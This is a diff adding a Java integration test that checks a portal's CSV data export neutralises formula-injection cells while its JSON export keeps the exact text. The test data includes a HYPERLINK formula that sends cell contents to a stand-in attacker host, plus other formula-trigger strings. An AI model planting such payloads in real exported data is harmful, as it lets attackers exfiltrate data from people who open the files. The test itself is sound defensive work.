@@ -175,6 +175,35 @@ class ExportTests extends PortalIntegrationTest {
 	}
 
 	@Test
+	void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralisedWhileTheJsonKeepsTheExactText() throws Exception {
+		String sub = "formula-" + UUID.randomUUID();
+		String name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+		PortalClient mallory = as(sub, List.of(Scopes.SELF), sub + "@example.com", name);
+		mallory.document("me");
+		// a leading tab or carriage return is trimmed from complaint texts; ExportArchiveTests covers those
+		List<String> texts = List.of("+1 call me", "-2 days", "@SUM(A1:A9)", "plain = text");
+		for (String text : texts) {
+			assertThat(mallory.document("fileComplaint", "category", "OTHER", "summary", text, "description", text)
+				.path("data.fileComplaint.userErrors")).isEmpty();
+		}
+		String id = mallory.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
+		JsonNode ready = awaitStatus(mallory, id, "READY");
+
+		Map<String, String> entries = unzip(download(baseUrl(), ready.path("downloadUrl").asString()).body());
+
+		JsonNode data = JSON.readTree(entries.get("data.json"));
+		assertThat(data.path("sections").path("profile").get(0).path("fullName").asString()).isEqualTo(name);
+		assertThat(parseCsv(entries.get("profile.csv")).get(1)).contains("'" + name);
+		String complaintsKey = data.path("sections").propertyNames().stream()
+			.filter(key -> data.path("sections").path(key).toString().contains("@SUM(A1:A9)"))
+			.findFirst().orElseThrow();
+		List<String> cells = parseCsv(entries.get(complaintsKey + ".csv")).stream().flatMap(List::stream).toList();
+		assertThat(cells).contains("'+1 call me", "'-2 days", "'@SUM(A1:A9)", "plain = text")
+			.doesNotContain("+1 call me", "-2 days", "@SUM(A1:A9)");
+		assertThat(data.path("sections").path(complaintsKey).toString()).contains("\"+1 call me\"", "\"@SUM(A1:A9)\"");
+	}
+
+	@Test
 	void aSecondOpenExportIsRefusedEvenWhenRequestsRace() throws Exception {
 		PortalClient alice = newSubject();
 		String subjectId = alice.document("me").text("data.me.id");
